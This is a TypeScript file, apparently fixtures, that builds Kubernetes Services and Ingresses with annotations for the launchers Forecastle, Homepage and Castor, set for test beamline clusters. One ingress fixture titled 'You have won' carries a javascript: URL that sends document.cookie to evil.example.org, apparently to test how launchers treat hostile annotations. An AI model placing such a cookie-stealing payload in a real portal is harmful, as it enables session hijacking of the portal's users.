import type { WorldCluster } from "../../../world/cluster";
import { homepage, ingress, route } from "./exposure";
import { inNamespace } from "./manifest";
import type { Manifest } from "./manifest";

/** A name in the cluster for something outside of it: a server of the laboratory, or a device. */
function elsewhere(namespace: string, name: string, host: string, annotations?: Readonly<Record<string, string>>): Manifest {
  return inNamespace(namespace, "v1", "Service", { name, ...(annotations && { annotations }) }, { spec: { type: "ExternalName", externalName: host, ports: [{ name: "http", port: 80 }] } });
}

/** What the launcher Forecastle reads. */
const forecastle = (appName: string, group: string, more: Readonly<Record<string, string>> = {}) => ({
  "forecastle.stakater.com/expose": "true",
  "forecastle.stakater.com/appName": appName,
  "forecastle.stakater.com/group": group,
  ...Object.fromEntries(Object.entries(more).map(([key, value]) => [`forecastle.stakater.com/${key}`, value])),
});

/** What Castor reads. */
const castor = (values: Readonly<Partial<Record<"title" | "purpose" | "icon" | "groups" | "url" | "hidden", string>>>) => Object.fromEntries(Object.entries(values).map(([key, value]) => [`castor-portal/${key}`, value]));

/** The web pages of a test beamline, as three kinds of launchers were told of them over the years. */
function pollux(cluster: WorldCluster): readonly Manifest[] {
  return [
    elsewhere("p47-beamline", "elog", "elog.diamond.ac.uk"),
    ingress("p47-beamline", "elog", "p47-elog.diamond.ac.uk", "elog", "http", forecastle("eLog", "P47", { icon: "https://elog.diamond.ac.uk/static/logs.png", url: "https://elog.diamond.ac.uk/p47" })),
    elsewhere("p47-beamline", "gitlab", "gitlab.diamond.ac.uk"),
    ingress("p47-beamline", "gitlab", "p47-gitlab.diamond.ac.uk", "gitlab", "http", homepage("Code", "GitLab", { description: "The beamline's services and plans", icon: "mdi-git", href: "https://gitlab.diamond.ac.uk/controls/p47" })),
    elsewhere("training", "wiki", "wiki.diamond.ac.uk"),
    ingress("training", "wiki", "training-wiki.diamond.ac.uk", "wiki", "http", { ...homepage("Training", "Wiki", { description: "How the exercises go" }), ...castor({ purpose: "How the exercises of the training go", icon: "docs" }) }),
    // A device with a web page of its own: only a Service says that it is there.
    elsewhere("p47-beamline", "panda-01", "bl47p-ea-panda-01.diamond.ac.uk", castor({ title: "PandA 1", purpose: "Wires the trigger box of the sample stage", icon: "cpu", groups: "p47-beamline", url: "http://bl47p-ea-panda-01.diamond.ac.uk:8008/gui" })),
    route(cluster, "p47-beamline", "p47-motion", "motion.p47.diamond.ac.uk", { service: "p47-epics-opis", port: 80, annotations: castor({ title: "Motion of P47", purpose: "Moves the sample stage, axis by axis", icon: "move", groups: "p47-beamline" }) }),
    // Somebody tried what a launcher does with it.
    ingress("training", "prize", "prize.diamond.ac.uk", "wiki", "http", castor({ title: "You have won", url: "javascript:fetch('https://evil.example.org/?'+document.cookie)" })),
    // Only for whoever runs it: it asks every launcher to leave it out.
    ingress("p47-beamline", "p47-rabbitmq", "p47-rabbitmq.diamond.ac.uk", "p47-rabbitmq-management", "http", { ...homepage("P47", "RabbitMQ"), ...castor({ hidden: "true" }) }),
  ];
}

/** The Services that the chart kube-prometheus-stack makes, beside those of an older installation: it names what they are only in `app`. */
function stack(): readonly Manifest[] {
  const labels = (app: string) => ({
    app: `kube-prometheus-stack-${app}`,
    "app.kubernetes.io/instance": "kube-prometheus-stack",
    "app.kubernetes.io/managed-by": "Helm",
    "app.kubernetes.io/part-of": "kube-prometheus-stack",
    "app.kubernetes.io/version": "66.3.1",
    chart: "kube-prometheus-stack-66.3.1",
    heritage: "Helm",
    release: "kube-prometheus-stack",
  });
  const service = (app: string, port: number, name: string, selector: string) =>
    inNamespace("monitoring", "v1", "Service", { name: `kube-prometheus-stack-${app}`, labels: labels(app) }, { spec: { type: "ClusterIP", ports: [{ name, port, targetPort: port }], selector: { app: selector } } });
  return [service("prometheus", 9090, "http-web", "prometheus-k8s"), service("alertmanager", 9093, "http-web", "alertmanager-main")];
}

/** What leads people to web pages besides the tools: for launchers to find. */
export function launcherManifests(cluster: WorldCluster): readonly Manifest[] {
  if (cluster.id === "pollux") return pollux(cluster);
  if (cluster.id === "i22") return [...stack(), elsewhere("i22-beamline", "elog", "elog.diamond.ac.uk"), ingress("i22-beamline", "elog", "i22-elog.diamond.ac.uk", "elog", "http", forecastle("eLog", "I22", { url: "https://elog.diamond.ac.uk/i22" }))];
  return [elsewhere("argocd", "gitlab", "gitlab.diamond.ac.uk", castor({ title: "GitLab", purpose: "Every repository that Argo CD deploys from", icon: "git", url: "https://gitlab.diamond.ac.uk" }))];
}
